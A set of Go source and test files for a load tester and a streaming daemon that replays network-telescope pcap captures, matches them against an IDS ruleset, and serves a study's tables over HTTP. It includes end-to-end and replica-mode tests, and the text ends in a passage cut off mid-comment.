	if err := run(os.Args[1:], os.Stdout); err != nil {
		fmt.Fprintln(os.Stderr, "waybackload:", err)
		os.Exit(1)
	}
}

func run(args []string, stdout io.Writer) error {
	cfg, err := parseFlags(args)
	if err != nil {
		return err
	}

	client := &http.Client{
		Timeout: cfg.timeout,
		Transport: &http.Transport{
			MaxIdleConns:        cfg.clients * 2,
			MaxIdleConnsPerHost: cfg.clients * 2,
		},
	}

	if cfg.warmup > 0 {
		fmt.Fprintf(stdout, "warmup: %s at %g qps\n", cfg.warmup, cfg.qps[0])
		runStage(cfg, client, cfg.qps[0], cfg.warmup)
	}

	rep := report{Addr: cfg.base}
	var totalSent, totalErr uint64
	for _, qps := range cfg.qps {
		res := runStage(cfg, client, qps, cfg.stage)
		rep.Stages = append(rep.Stages, res)
		totalSent += res.Sent
		totalErr += res.Errors
		if res.P99Ms > rep.WorstP99 {
			rep.WorstP99 = res.P99Ms
		}
		fmt.Fprintf(stdout,
			"stage %6g qps: sent %6d  errors %d  achieved %7.1f qps  p50 %s  p90 %s  p99 %s  max %s\n",
			qps, res.Sent, res.Errors, res.AchievedQPS,
			fmtDur(res.p50), fmtDur(res.p90), fmtDur(res.p99), fmtDur(res.max))
	}
	if totalSent > 0 {
		rep.ErrorRate = float64(totalErr) / float64(totalSent)
	}

	if cfg.jsonOut != "" {
		enc, err := json.MarshalIndent(&rep, "", "  ")
		if err != nil {
			return err
		}
		enc = append(enc, '\n')
		if cfg.jsonOut == "-" {
			stdout.Write(enc)
		} else if err := os.WriteFile(cfg.jsonOut, enc, 0o644); err != nil {
			return err
		}
	}

	// Gates: worst per-stage p99 against the SLO, then overall error rate.
	// Both reported together so a failing run names everything wrong at once.
	var fails []string
	if cfg.sloP99 > 0 && rep.WorstP99 > float64(cfg.sloP99)/float64(time.Millisecond) {
		fails = append(fails, fmt.Sprintf("p99 %.1fms exceeds SLO %s", rep.WorstP99, cfg.sloP99))
	}
	if rep.ErrorRate > cfg.maxErrRat {
		fails = append(fails, fmt.Sprintf("error rate %.4f exceeds limit %.4f (%d/%d failed)",
			rep.ErrorRate, cfg.maxErrRat, totalErr, totalSent))
	}
	if len(fails) > 0 {
		return fmt.Errorf("%s", strings.Join(fails, "; "))
	}
	fmt.Fprintf(stdout, "pass: worst p99 %.1fms, error rate %.4f over %d requests\n",
		rep.WorstP99, rep.ErrorRate, totalSent)
	return nil
}

func parseFlags(args []string) (*loadConfig, error) {
	fs := flag.NewFlagSet("waybackload", flag.ContinueOnError)
	var (
		addr      = fs.String("addr", "", "daemon address to load (host:port or http URL)")
		endpoints = fs.String("endpoints", "tables/4:4,tables/5:2,figures/3:1,figures/7:1",
			"comma-separated path:weight mix, paths relative to /v1/")
		asof     = fs.String("asof", "", "comma-separated RFC 3339 cut times for ?asof= queries")
		asofFrac = fs.Float64("asof-frac", 0.25, "fraction of requests carrying ?asof= (needs -asof)")
		clients  = fs.Int("clients", 8, "concurrent workers draining the schedule")
		qps      = fs.String("qps", "50", "comma-separated QPS ramp, one stage per entry")
		stage    = fs.Duration("stage", 10*time.Second, "duration of each ramp stage")
		warmup   = fs.Duration("warmup", time.Second, "unmeasured warmup at the first stage's QPS")
		timeout  = fs.Duration("timeout", 5*time.Second, "per-request timeout")
		seed     = fs.Int64("seed", 1, "workload mix RNG seed")
		sloP99   = fs.Duration("slo-p99", 0, "fail if any stage's p99 exceeds this (0 disables)")
		maxErr   = fs.Float64("max-error-rate", 0, "fail if overall error fraction exceeds this")
		jsonOut  = fs.String("json", "", "write a JSON report to this path ('-' for stdout)")
	)
	if err := fs.Parse(args); err != nil {
		return nil, err
	}
	if *addr == "" {
		return nil, fmt.Errorf("need -addr")
	}
	base := *addr
	if !strings.HasPrefix(base, "http://") && !strings.HasPrefix(base, "https://") {
		base = "http://" + base
	}
	base = strings.TrimRight(base, "/")

	cfg := &loadConfig{
		base: base, asofFrac: *asofFrac, clients: *clients,
		stage: *stage, warmup: *warmup, timeout: *timeout, seed: *seed,
		sloP99: *sloP99, maxErrRat: *maxErr, jsonOut: *jsonOut,
	}
	if cfg.clients < 1 {
		return nil, fmt.Errorf("-clients must be >= 1")
	}
	if cfg.stage <= 0 {
		return nil, fmt.Errorf("-stage must be positive")
	}
	for _, part := range strings.Split(*endpoints, ",") {
		part = strings.TrimSpace(part)
		if part == "" {
			continue
		}
		path, weightStr, ok := strings.Cut(part, ":")
		w := 1
		if ok {
			var err error
			if w, err = strconv.Atoi(weightStr); err != nil || w < 1 {
				return nil, fmt.Errorf("endpoint %q: weight must be a positive integer", part)
			}
		}
		if !strings.HasPrefix(path, "/") {
			path = "/v1/" + path
		}
		cfg.endpoints = append(cfg.endpoints, endpoint{path: path, weight: w})
	}
	if len(cfg.endpoints) == 0 {
		return nil, fmt.Errorf("-endpoints is empty")
	}
	for _, part := range strings.Split(*asof, ",") {
		if part = strings.TrimSpace(part); part != "" {
			if _, err := time.Parse(time.RFC3339, part); err != nil {
				return nil, fmt.Errorf("-asof %q: %v", part, err)
			}
			cfg.asof = append(cfg.asof, part)
		}
	}
	if cfg.asofFrac < 0 || cfg.asofFrac > 1 {
		return nil, fmt.Errorf("-asof-frac must be in [0,1]")
	}
	for _, part := range strings.Split(*qps, ",") {
		q, err := strconv.ParseFloat(strings.TrimSpace(part), 64)
		if err != nil || q <= 0 {
			return nil, fmt.Errorf("-qps %q: entries must be positive numbers", part)
		}
		cfg.qps = append(cfg.qps, q)
	}
	return cfg, nil
}

// runStage drives one open-loop stage at the target QPS and returns the
// merged measurement. Workers pull tickets from a shared counter; ticket n's
// scheduled send time is start + n/qps, and that schedule — not the worker's
// actual send time — is the latency origin.
func runStage(cfg *loadConfig, client *http.Client, qps float64, dur time.Duration) stageResult {
	ctx, cancel := context.WithCancel(context.Background())
	defer cancel()

	var tickets atomic.Uint64
	interval := time.Duration(float64(time.Second) / qps)
	start := time.Now()
	end := start.Add(dur)

	type workerState struct {
		h    hist
		errs uint64
	}
	states := make([]workerState, cfg.clients)
	var wg sync.WaitGroup
	for w := 0; w < cfg.clients; w++ {
		wg.Add(1)
		go func(w int) {
			defer wg.Done()
			st := &states[w]
			rng := rand.New(rand.NewSource(cfg.seed + int64(w)*7919))
			for {
				n := tickets.Add(1) - 1
				sched := start.Add(time.Duration(n) * interval)
				if sched.After(end) {
					return
				}
				if d := time.Until(sched); d > 0 {
					time.Sleep(d)
				}
				url := cfg.base + cfg.pickPath(rng)
				ok := doRequest(ctx, client, url)
				st.h.record(time.Since(sched))
				if !ok {
					st.errs++
				}
			}
		}(w)
	}
	wg.Wait()
	elapsed := time.Since(start)

	var h hist
	var errs uint64
	for i := range states {
		h.merge(&states[i].h)
		errs += states[i].errs
	}
	res := stageResult{
		TargetQPS: qps,
		Sent:      h.total,
		Errors:    errs,
		p50:       h.quantile(0.50),
		p90:       h.quantile(0.90),
		p99:       h.quantile(0.99),
		max:       time.Duration(h.max),
		mean:      h.mean(),
	}
	if elapsed > 0 {
		res.AchievedQPS = float64(h.total) / elapsed.Seconds()
	}
	ms := func(d time.Duration) float64 { return float64(d) / float64(time.Millisecond) }
	res.P50Ms, res.P90Ms, res.P99Ms = ms(res.p50), ms(res.p90), ms(res.p99)
	res.MaxMs, res.MeanMs = ms(res.max), ms(res.mean)
	return res
}

// pickPath draws one request path from the weighted endpoint mix, appending
// ?asof= for the configured fraction.
func (cfg *loadConfig) pickPath(rng *rand.Rand) string {
	total := 0
	for _, e := range cfg.endpoints {
		total += e.weight
	}
	n := rng.Intn(total)
	path := cfg.endpoints[len(cfg.endpoints)-1].path
	for _, e := range cfg.endpoints {
		if n < e.weight {
			path = e.path
			break
		}
		n -= e.weight
	}
	if len(cfg.asof) > 0 && rng.Float64() < cfg.asofFrac {
		path += "?asof=" + cfg.asof[rng.Intn(len(cfg.asof))]
	}
	return path
}

func doRequest(ctx context.Context, client *http.Client, url string) bool {
	req, err := http.NewRequestWithContext(ctx, "GET", url, nil)
	if err != nil {
		return false
	}
	resp, err := client.Do(req)
	if err != nil {
		return false
	}
	io.Copy(io.Discard, resp.Body)
	resp.Body.Close()
	return resp.StatusCode == http.StatusOK
}
