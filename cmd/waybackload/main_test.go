package main

import (
	"math/rand"
	"net/http"
	"net/http/httptest"
	"strings"
	"sync/atomic"
	"testing"
	"time"
)

// TestHistBuckets: the log-linear index must be monotone, the bucket upper
// edge must bound every value the bucket holds, and the relative error of the
// upper edge stays under the 1/32 sub-bucket width.
func TestHistBuckets(t *testing.T) {
	prev := -1
	for _, u := range []int64{0, 1, 31, 32, 33, 63, 64, 100, 127, 128, 1 << 20, 1<<20 + 1, 1 << 40, 1<<62 + 12345, 1<<63 - 1} {
		idx := bucketOf(u)
		if idx < prev {
			t.Fatalf("bucketOf(%d)=%d below previous %d: not monotone", u, idx, prev)
		}
		prev = idx
		if idx < 0 || idx >= histBuckets {
			t.Fatalf("bucketOf(%d)=%d out of range", u, idx)
		}
		upper := bucketMax(idx)
		if upper < u {
			t.Fatalf("bucketMax(%d)=%d < value %d it covers", idx, upper, u)
		}
		if u >= 32 {
			if rel := float64(upper-u) / float64(u); rel > 1.0/16 {
				t.Fatalf("bucketMax(%d)=%d overstates %d by %.3f", idx, upper, u, rel)
			}
		}
	}
	// Exhaustive adjacency: every bucket's max + 1 must land in the next one.
	for idx := 0; idx < 100; idx++ {
		if got := bucketOf(bucketMax(idx)); got != idx {
			t.Fatalf("bucketOf(bucketMax(%d)) = %d", idx, got)
		}
		if got := bucketOf(bucketMax(idx) + 1); got != idx+1 {
			t.Fatalf("bucketOf(bucketMax(%d)+1) = %d, want %d", idx, got, idx+1)
		}
	}
}

// TestHistQuantiles: against a uniform sample, the histogram's quantiles must
// land within a sub-bucket of the exact ones.
func TestHistQuantiles(t *testing.T) {
	var h hist
	rng := rand.New(rand.NewSource(42))
	const n = 100000
	for i := 0; i < n; i++ {
		h.record(time.Duration(rng.Int63n(int64(100 * time.Millisecond))))
	}
	if h.total != n {
		t.Fatalf("total %d, want %d", h.total, n)
	}
	for _, q := range []float64{0.5, 0.9, 0.99} {
		got := float64(h.quantile(q))
		want := q * float64(100*time.Millisecond)
		if got < want*0.93 || got > want*1.07 {
			t.Errorf("quantile(%g) = %s, want ~%s", q, time.Duration(got), time.Duration(want))
		}
	}
	if h.quantile(1) != time.Duration(h.max) {
		t.Errorf("p100 %s != max %s", h.quantile(1), time.Duration(h.max))
	}

	var a, b hist
	a.record(time.Millisecond)
	b.record(3 * time.Millisecond)
	a.merge(&b)
	if a.total != 2 || time.Duration(a.max) != 3*time.Millisecond {
		t.Errorf("merge: total %d max %s", a.total, time.Duration(a.max))
	}
}

func TestParseFlags(t *testing.T) {
	cfg, err := parseFlags([]string{
		"-addr", "127.0.0.1:1", "-qps", "10,50", "-endpoints", "tables/4:3,/metrics",
		"-asof", "2021-07-01T00:00:00Z", "-asof-frac", "0.5",
	})
	if err != nil {
		t.Fatal(err)
	}
	if cfg.base != "http://127.0.0.1:1" {
		t.Errorf("base %q", cfg.base)
	}
	if len(cfg.qps) != 2 || cfg.qps[1] != 50 {
		t.Errorf("qps %v", cfg.qps)
	}
	if len(cfg.endpoints) != 2 || cfg.endpoints[0].path != "/v1/tables/4" ||
		cfg.endpoints[0].weight != 3 || cfg.endpoints[1].path != "/metrics" || cfg.endpoints[1].weight != 1 {
		t.Errorf("endpoints %+v", cfg.endpoints)
	}

	for _, bad := range [][]string{
		{},
		{"-addr", "x", "-qps", "0"},
		{"-addr", "x", "-qps", "ten"},
		{"-addr", "x", "-endpoints", "tables/4:-1"},
		{"-addr", "x", "-asof", "yesterday"},
		{"-addr", "x", "-asof-frac", "1.5"},
		{"-addr", "x", "-clients", "0"},
	} {
		if _, err := parseFlags(bad); err == nil {
			t.Errorf("parseFlags(%v) accepted", bad)
		}
	}
}

// TestWeightedMix: the picker respects weights and the asof fraction.
func TestWeightedMix(t *testing.T) {
	cfg := &loadConfig{
		endpoints: []endpoint{{path: "/a", weight: 3}, {path: "/b", weight: 1}},
		asof:      []string{"2021-07-01T00:00:00Z"},
		asofFrac:  0.5,
	}
	rng := rand.New(rand.NewSource(7))
	counts := map[string]int{}
	asofs := 0
	const n = 10000
	for i := 0; i < n; i++ {
		p := cfg.pickPath(rng)
		if strings.Contains(p, "?asof=") {
			asofs++
			p, _, _ = strings.Cut(p, "?")
		}
		counts[p]++
	}
	if frac := float64(counts["/a"]) / n; frac < 0.70 || frac > 0.80 {
		t.Errorf("/a drawn %.3f of the time, want ~0.75", frac)
	}
	if frac := float64(asofs) / n; frac < 0.45 || frac > 0.55 {
		t.Errorf("asof on %.3f of requests, want ~0.5", frac)
	}
}

// TestRunAgainstServer: a full run against a live server passes its gates,
// and a deliberately slow server trips the p99 gate with a nonzero result.
func TestRunAgainstServer(t *testing.T) {
	var hits atomic.Uint64
	ts := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		hits.Add(1)
		w.Write([]byte("ok"))
	}))
	defer ts.Close()

	var out strings.Builder
	err := run([]string{
		"-addr", ts.URL, "-qps", "100,200", "-stage", "300ms", "-warmup", "100ms",
		"-clients", "4", "-endpoints", "tables/4:1", "-slo-p99", "2s", "-max-error-rate", "0",
		"-json", "-",
	}, &out)
	if err != nil {
		t.Fatalf("run: %v\n%s", err, out.String())
	}
	if hits.Load() == 0 {
		t.Fatal("server never hit")
	}
	for _, want := range []string{"stage", "p99", "pass:", `"worst_p99_ms"`} {
		if !strings.Contains(out.String(), want) {
			t.Errorf("output missing %q:\n%s", want, out.String())
		}
	}

	slow := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		time.Sleep(30 * time.Millisecond)
		w.Write([]byte("ok"))
	}))
	defer slow.Close()
	out.Reset()
	err = run([]string{
		"-addr", slow.URL, "-qps", "50", "-stage", "200ms", "-warmup", "0s",
		"-clients", "4", "-slo-p99", "1ms",
	}, &out)
	if err == nil || !strings.Contains(err.Error(), "exceeds SLO") {
		t.Fatalf("slow server passed the p99 gate: %v", err)
	}

	// Errors trip the rate gate even with no SLO set.
	failing := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		http.Error(w, "boom", http.StatusInternalServerError)
	}))
	defer failing.Close()
	out.Reset()
	err = run([]string{
		"-addr", failing.URL, "-qps", "50", "-stage", "200ms", "-warmup", "0s", "-clients", "2",
	}, &out)
	if err == nil || !strings.Contains(err.Error(), "error rate") {
		t.Fatalf("failing server passed the error gate: %v", err)
	}
}
