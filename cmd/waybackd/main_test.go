package main

import (
	"io"
	"net/http"
	"net/http/httptest"
	"strings"
	"testing"
	"time"

	"repro/internal/pcapio"
	"repro/internal/scanner"
	"repro/internal/telescope"
	"repro/wayback"
)

// TestDaemonEndToEnd is the acceptance test for the whole waybackd stack:
// a seeded study capture is replayed into the watch directory as rotating
// segments while the daemon runs; once ingest lag reaches zero, the HTTP
// API's Table 4 must equal the batch Study.Run() rendering byte for byte —
// streaming capture, reassembly, matching, the store, and the query layer
// all collapse to the same analysis as the one-shot pipeline.
func TestDaemonEndToEnd(t *testing.T) {
	const seed, scale = 1, 50

	// Batch truth.
	study, err := wayback.NewStudy(wayback.Config{Seed: seed, Scale: scale, PipelineTimelines: true})
	if err != nil {
		t.Fatal(err)
	}
	batch, err := study.Run()
	if err != nil {
		t.Fatal(err)
	}
	wantTable4 := batch.Table4().String()

	watchDir := t.TempDir()
	d, err := openDaemon(daemonConfig{
		watchDir: watchDir, storeDir: t.TempDir(), prefix: "dscope",
		seed: seed, timelines: "pipeline",
		poll: 5 * time.Millisecond, flushIdle: 50 * time.Millisecond,
		batch: 256, reasmShards: 3,
	})
	if err != nil {
		t.Fatal(err)
	}
	ts := httptest.NewServer(d.server.Handler())
	defer ts.Close()

	// Feed: the same workload the batch study generates, written as rotating
	// segments while the daemon is already tailing (waybackfeed's behavior).
	bps, err := scanner.Build(scanner.Config{Seed: seed, Scale: scale})
	if err != nil {
		t.Fatal(err)
	}
	sessions := telescope.NewSim(telescope.SimConfig{Seed: seed}).Sessions(bps)
	rw, err := pcapio.NewRotatingWriter(watchDir, "dscope", pcapio.LinkTypeEthernet, 256<<10,
		pcapio.WithNanoPrecision())
	if err != nil {
		t.Fatal(err)
	}
	for start := 0; start < len(sessions); start += 500 {
		end := start + 500
		if end > len(sessions) {
			end = len(sessions)
		}
		if err := telescope.SessionsToPcap(sessions[start:end], rw, seed); err != nil {
			t.Fatal(err)
		}
		time.Sleep(2 * time.Millisecond)
	}
	if err := rw.Close(); err != nil {
		t.Fatal(err)
	}
	if len(rw.Files()) < 2 {
		t.Fatalf("capture fit in %d segment(s); rotation untested", len(rw.Files()))
	}

	get := func(path string) (int, string) {
		t.Helper()
		resp, err := http.Get(ts.URL + path)
		if err != nil {
			t.Fatal(err)
		}
		defer resp.Body.Close()
		body, err := io.ReadAll(resp.Body)
		if err != nil {
			t.Fatal(err)
		}
		return resp.StatusCode, string(body)
	}

	if code, body := get("/healthz"); code != http.StatusOK || !strings.HasPrefix(body, "ok\n") {
		t.Fatalf("healthz: %d %q", code, body)
	}

	// Wait for ingest lag to reach zero, via the public metrics endpoint.
	deadline := time.Now().Add(60 * time.Second)
	for {
		_, metrics := get("/metrics")
		if strings.Contains(metrics, "waybackd_ingest_idle 1") {
			break
		}
		if time.Now().After(deadline) {
			t.Fatalf("ingest never idle:\n%s", metrics)
		}
		time.Sleep(20 * time.Millisecond)
	}

	code, got := get("/v1/tables/4")
	if code != http.StatusOK {
		t.Fatalf("tables/4: %d: %s", code, got)
	}
	if got != wantTable4 {
		t.Errorf("streamed Table 4 differs from batch run:\n--- streamed ---\n%s--- batch ---\n%s", got, wantTable4)
	}

	// A second fetch must be a cache hit at the same generation.
	if _, again := get("/v1/tables/4"); again != got {
		t.Error("repeated fetch differs")
	}
	_, metrics := get("/metrics")
	for _, want := range []string{
		"waybackd_cache_hits",
		"waybackd_ingest_segments_done",
		"waybackd_ingest_sessions_total",
		`waybackd_ingest_shard_open_conns{shard="0"}`,
		`waybackd_ingest_shard_queue_depth{shard="2"}`, // reasmShards=3 → shards 0..2
		`waybackd_ingest_shard_packets{shard="1"}`,
	} {
		if !strings.Contains(metrics, want) {
			t.Errorf("metrics missing %q:\n%s", want, metrics)
		}
	}

	// Graceful drain; all batch events must have reached the store.
	if err := d.close(); err != nil {
		t.Fatal(err)
	}
	if got := int(d.pipeline.Metrics().Events); got != len(batch.Events) {
		t.Errorf("daemon stored %d events, batch found %d", got, len(batch.Events))
	}
}

func TestRunFlagValidation(t *testing.T) {
	if err := run([]string{}); err == nil {
		t.Error("missing -watch/-store accepted")
	}
	if err := run([]string{"-watch", t.TempDir(), "-store", t.TempDir(), "-timelines", "bogus"}); err == nil {
		t.Error("bogus -timelines accepted")
	}
}
