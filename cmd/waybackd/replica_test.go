package main

import (
	"io"
	"net/http"
	"net/http/httptest"
	"strings"
	"testing"
	"time"

	"repro/wayback"
)

// TestDaemonReplicaMode drives the production wiring for a coordinator/
// replica pair: one daemon serving the replication feed, a second daemon in
// -replica-of mode tailing it. The replica's Table 4 must equal the
// coordinator's byte for byte once caught up, and its /metrics must carry the
// replication gauges.
func TestDaemonReplicaMode(t *testing.T) {
	const seed, scale = 1, 20
	study, err := wayback.NewStudy(wayback.Config{Seed: seed, Scale: scale, PipelineTimelines: true})
	if err != nil {
		t.Fatal(err)
	}
	batch, err := study.Run()
	if err != nil {
		t.Fatal(err)
	}

	// Coordinator: no local capture needed — seed its store directly and let
	// the feed's own Sync commit it.
	coordStore := t.TempDir()
	coord, err := openDaemon(daemonConfig{
		storeDir: coordStore, seed: seed, timelines: "pipeline",
		fleetListen:   "127.0.0.1:0",
		replicaListen: "127.0.0.1:0",
	})
	if err != nil {
		t.Fatal(err)
	}
	defer coord.close()
	if err := coord.store.AppendBatch(batch.Events); err != nil {
		t.Fatal(err)
	}

	rd, err := openDaemon(daemonConfig{
		storeDir: t.TempDir(), seed: seed, timelines: "pipeline",
		replicaOf: coord.feed.Addr(), replicaID: "r1",
	})
	if err != nil {
		t.Fatal(err)
	}
	defer rd.close()

	coordTS := httptest.NewServer(coord.server.Handler())
	defer coordTS.Close()
	repTS := httptest.NewServer(rd.server.Handler())
	defer repTS.Close()
	get := func(base, path string) (int, string) {
		t.Helper()
		resp, err := http.Get(base + path)
		if err != nil {
			t.Fatal(err)
		}
		defer resp.Body.Close()
		body, err := io.ReadAll(resp.Body)
		if err != nil {
			t.Fatal(err)
		}
		return resp.StatusCode, string(body)
	}

	deadline := time.Now().Add(30 * time.Second)
	for {
		st := rd.replica.Status()
		if st.Rounds > 0 && st.LocalEvents == uint64(len(batch.Events)) && st.LagEvents == 0 {
			break
		}
		if time.Now().After(deadline) {
			t.Fatalf("replica never caught up: %+v", st)
		}
		time.Sleep(10 * time.Millisecond)
	}

	_, want := get(coordTS.URL, "/v1/tables/4")
	code, got := get(repTS.URL, "/v1/tables/4")
	if code != http.StatusOK {
		t.Fatalf("replica tables/4: %d: %s", code, got)
	}
	if got != want {
		t.Errorf("replica Table 4 differs from coordinator:\n--- replica ---\n%s--- coordinator ---\n%s", got, want)
	}
	if want != batch.Table4().String() {
		t.Error("coordinator Table 4 differs from the batch run")
	}

	if code, body := get(repTS.URL, "/healthz"); code != http.StatusOK || !strings.HasPrefix(body, "ok\n") {
		t.Fatalf("replica healthz: %d %q", code, body)
	}
	_, metrics := get(repTS.URL, "/metrics")
	for _, want := range []string{"waybackd_replica_connected 1", "waybackd_replica_lag_events 0"} {
		if !strings.Contains(metrics, want) {
			t.Errorf("replica metrics missing %q", want)
		}
	}
	_, coordMetrics := get(coordTS.URL, "/metrics")
	if !strings.Contains(coordMetrics, `waybackd_replica_feed_connected{replica="r1"} 1`) {
		t.Errorf("coordinator metrics missing the feed gauge:\n%s", coordMetrics)
	}
}

// TestReplicaFlagValidation: replica mode excludes every ingest source.
func TestReplicaFlagValidation(t *testing.T) {
	if err := run([]string{"-store", t.TempDir(), "-replica-of", "localhost:1", "-watch", t.TempDir()}); err == nil ||
		!strings.Contains(err.Error(), "exclusive") {
		t.Errorf("replica+watch accepted: %v", err)
	}
	if err := run([]string{"-store", t.TempDir(), "-replica-of", "localhost:1", "-fleet-listen", "127.0.0.1:0"}); err == nil ||
		!strings.Contains(err.Error(), "exclusive") {
		t.Errorf("replica+fleet accepted: %v", err)
	}
}
