// Command waybackd is the streaming counterpart of waybackctl: a daemon
// that tails a directory of rotating pcap segments (as written by a
// telescope's packet recorder, or by waybackfeed), incrementally reassembles
// and matches the traffic against the dated IDS ruleset, appends attributed
// events to a crash-safe on-disk event store, and serves the paper's tables
// and figures over HTTP — recomputed only when new events land.
//
// Usage:
//
//	waybackd -watch capture/ -store events/ [-addr :8416] [-seed 1]
//	         [-prefix dscope] [-timelines pipeline|appendix]
//	         [-poll 100ms] [-flush-idle 2s] [-batch 256] [-workers 0]
//
// Shutdown (SIGINT/SIGTERM) drains: every byte already captured flows
// through to the store before the process exits, so a restart resumes with
// nothing lost but traffic recorded after the signal.
package main

import (
	"context"
	"errors"
	"flag"
	"fmt"
	"net/http"
	"os"
	"os/signal"
	"syscall"
	"time"

	"repro/internal/eventstore"
	"repro/internal/ingest"
	"repro/internal/serve"
	"repro/wayback"
)

func main() {
	if err := run(os.Args[1:]); err != nil {
		fmt.Fprintln(os.Stderr, "waybackd:", err)
		os.Exit(1)
	}
}

// daemon holds the wired components; split from run so tests can drive the
// exact production wiring in-process.
type daemon struct {
	study    *wayback.Study
	store    *eventstore.Store
	pipeline *ingest.Pipeline
	server   *serve.Server
}

type daemonConfig struct {
	watchDir  string
	storeDir  string
	prefix    string
	seed      int64
	timelines string
	poll      time.Duration
	flushIdle time.Duration
	batch     int
	workers   int
}

func openDaemon(cfg daemonConfig) (*daemon, error) {
	switch cfg.timelines {
	case "pipeline", "appendix":
	default:
		return nil, fmt.Errorf("-timelines must be pipeline or appendix, got %q", cfg.timelines)
	}
	study, err := wayback.NewStudy(wayback.Config{
		Seed:              cfg.seed,
		PipelineTimelines: cfg.timelines == "pipeline",
	})
	if err != nil {
		return nil, err
	}
	store, err := wayback.OpenStore(cfg.storeDir)
	if err != nil {
		return nil, err
	}
	pipeline, err := ingest.Start(ingest.Config{
		Dir:           cfg.watchDir,
		Prefix:        cfg.prefix,
		Engine:        study.Engine(),
		Store:         store,
		PollInterval:  cfg.poll,
		FlushIdle:     cfg.flushIdle,
		BatchSessions: cfg.batch,
		MatchWorkers:  cfg.workers,
	})
	if err != nil {
		store.Close()
		return nil, err
	}
	server, err := serve.New(serve.Config{Study: study, Store: store, Ingest: pipeline})
	if err != nil {
		pipeline.Close()
		store.Close()
		return nil, err
	}
	return &daemon{study: study, store: store, pipeline: pipeline, server: server}, nil
}

// close drains and shuts down in dependency order: stop ingesting (which
// consumes everything already on disk), then close the store.
func (d *daemon) close() error {
	err := d.pipeline.Close()
	if cerr := d.store.Close(); err == nil {
		err = cerr
	}
	return err
}

func run(args []string) error {
	fs := flag.NewFlagSet("waybackd", flag.ContinueOnError)
	watch := fs.String("watch", "", "directory of rotating pcap segments to tail (required)")
	storeDir := fs.String("store", "", "event store directory (required)")
	prefix := fs.String("prefix", "dscope", "segment filename prefix")
	addr := fs.String("addr", ":8416", "HTTP listen address")
	seed := fs.Int64("seed", 1, "analysis seed (KEV catalog, population model)")
	timelines := fs.String("timelines", "pipeline", "lifecycle source: pipeline (from ingested events) or appendix")
	poll := fs.Duration("poll", 100*time.Millisecond, "tail poll interval")
	flushIdle := fs.Duration("flush-idle", 2*time.Second, "flush open connections after this much capture silence")
	batch := fs.Int("batch", 256, "sessions per match batch")
	workers := fs.Int("workers", 0, "match workers (0 = GOMAXPROCS)")
	if err := fs.Parse(args); err != nil {
		return err
	}
	if *watch == "" || *storeDir == "" {
		return errors.New("-watch and -store are required")
	}

	d, err := openDaemon(daemonConfig{
		watchDir: *watch, storeDir: *storeDir, prefix: *prefix,
		seed: *seed, timelines: *timelines,
		poll: *poll, flushIdle: *flushIdle, batch: *batch, workers: *workers,
	})
	if err != nil {
		return err
	}

	httpSrv := &http.Server{Addr: *addr, Handler: d.server.Handler()}
	errCh := make(chan error, 1)
	go func() {
		if err := httpSrv.ListenAndServe(); err != nil && err != http.ErrServerClosed {
			errCh <- err
		}
	}()
	fmt.Printf("waybackd: tailing %s (prefix %s), store %s, listening on %s\n",
		*watch, *prefix, *storeDir, *addr)

	ctx, stop := signal.NotifyContext(context.Background(), os.Interrupt, syscall.SIGTERM)
	defer stop()
	select {
	case err := <-errCh:
		d.close()
		return err
	case <-ctx.Done():
	}
	fmt.Println("waybackd: draining")
	// Drain order: finish ingesting what is on disk, then stop answering
	// queries (the last answers see the fully drained store), then close.
	drainErr := d.pipeline.Close()
	shutCtx, cancel := context.WithTimeout(context.Background(), 10*time.Second)
	defer cancel()
	if err := httpSrv.Shutdown(shutCtx); err != nil && drainErr == nil {
		drainErr = err
	}
	if err := d.store.Close(); err != nil && drainErr == nil {
		drainErr = err
	}
	m := d.pipeline.Metrics()
	fmt.Printf("waybackd: drained (%d packets, %d sessions, %d events, %d segments)\n",
		m.Packets, m.Sessions, m.Events, m.SegmentsDone)
	return drainErr
}
