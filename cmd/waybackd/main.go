// Command waybackd is the streaming counterpart of waybackctl: a daemon
// that tails a directory of rotating pcap segments (as written by a
// telescope's packet recorder, or by waybackfeed), incrementally reassembles
// and matches the traffic against the dated IDS ruleset, appends attributed
// events to a crash-safe on-disk event store, and serves the paper's tables
// and figures over HTTP — recomputed only when new events land.
//
// Usage:
//
//	waybackd -watch capture/ -store events/ [-addr :8416] [-seed 1]
//	         [-prefix dscope] [-timelines pipeline|appendix]
//	         [-poll 100ms] [-flush-idle 2s] [-batch 256] [-workers 0]
//	         [-fleet-listen :8417] [-stale-after 0] [-commit-interval 0]
//	         [-pprof-listen localhost:6060]
//	         [-timeline tl/] [-timeline-segment 4096] [-timeline-checkpoint 1]
//	         [-timeline-seal 5s]
//	         [-rules-dir rules/] [-rules-reload 5s] [-rescan-backlog 0]
//	         [-replica-listen :8418] [-replica-of host:8418] [-replica-id r1]
//
// With -rules-dir the daemon keeps its ruleset in a versioned registry: rule
// publications appended to the registry journal (POST /v1/ruleset, or
// waybackctl rules publish) hot-swap the compiled matcher between batches
// without dropping a session, per-session digests are persisted alongside the
// events, and a background rescan worker re-attributes already-ingested
// history under the earliest-published match whenever a publication demands
// it. -rescan-backlog bounds how many pending digests healthz tolerates
// before degrading to 503.
//
// With -timeline the daemon runs a time-travel engine over the store: a
// background sealer cuts committed events into immutable time-partitioned
// segments and snapshot checkpoints, and the HTTP API grows ?asof=DATE on the
// table/figure/lifecycle endpoints plus /v1/diff and /v1/skill. On drain the
// pending tail is sealed, so a restarted daemon answers as-of queries without
// replaying the log.
//
// With -fleet-listen the daemon is also (or, without -watch, purely) a fleet
// coordinator: waybacksensor nodes connect over the fleet wire protocol and
// their batches are ingested exactly once — per-sensor high watermarks
// persisted alongside the store drop redelivered batches idempotently — with
// per-sensor liveness on GET /v1/fleet. With -stale-after the /healthz
// endpoint degrades to 503 once the store has received nothing for that
// long, so a load balancer ejects a stalled coordinator.
//
// Fleet batches are made durable by a group-commit pipeline: appends from all
// sensors run concurrently, and a single committer coalesces everything
// pending into one fsync before any ack leaves. -commit-interval bounds how
// long the committer gathers; the zero default is adaptive — each commit
// absorbs whatever queued while the previous fsync ran, so the group size
// tracks the device's own latency. Set it above zero only to trade ack
// latency for larger groups on stores where fsync is cheap but frequent.
// -pprof-listen exposes net/http/pprof on its own address (never on -addr),
// for profiling a live coordinator.
//
// With -replica-listen the daemon also serves its committed event log to
// read replicas. A second waybackd started with -replica-of (and nothing
// else to ingest) tails that feed into its own store and serves the full
